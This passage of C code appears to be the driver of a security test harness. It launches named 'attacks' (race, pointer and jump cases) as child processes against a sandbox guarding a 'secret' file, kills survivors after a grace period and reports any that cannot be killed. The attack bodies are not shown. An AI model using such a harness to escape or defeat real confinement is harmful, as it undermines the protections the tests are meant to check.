        if (begun[killed - 1] > 0)
          kill(begun[killed - 1], SIGKILL);
    if (pid <= 0)
      usleep(100000);
  } while (left > 0 && now.tv_sec - from.tv_sec < MERCY_SECONDS);
  for (int i = 0; i < count; i++)
    if (begun[i] > 0)
      printf("FOUND %s: it cannot be killed\n", names[i]);
}

/* Those that make a great many calls, which is no good where each is looked at. */
static int is_race(const char *name) {
  return strncmp(name, "race-", 5) == 0 || strcmp(name, "pointers") == 0;
}

int main(int argc, char **argv) {
  secret = argc > 1 ? argv[1] : "/nonexistent";
  setvbuf(stdout, NULL, _IOLBF, 0);
  find_sites();
  for (int i = 1; i < 32; i++)
    signal(i, SIG_DFL);
  printf("sites %d\n", site_count);
  for (int a = 2; a < argc; a++) {
    for (int i = 0; i < ATTACKS; i++)
      if (strcmp(argv[a], attacks[i].name) == 0 || (strcmp(argv[a], "all") == 0 && !is_race(attacks[i].name)) ||
          (strcmp(argv[a], "races") == 0 && is_race(attacks[i].name) && strcmp(attacks[i].name, "race-all-slots") != 0))
        begin(attacks[i].name, attacks[i].run, 0);
    if (strcmp(argv[a], "jumps") == 0 || strcmp(argv[a], "all") == 0)
      for (int i = 0; i < CALLS; i++) {
        char name[32];
        snprintf(name, sizeof name, "jump-%ld-%d", wanted[i][0], i);
        begin(name, NULL, i);
      }
  }
  await_all();
  printf("done %d\n", count);
  return 0;
}
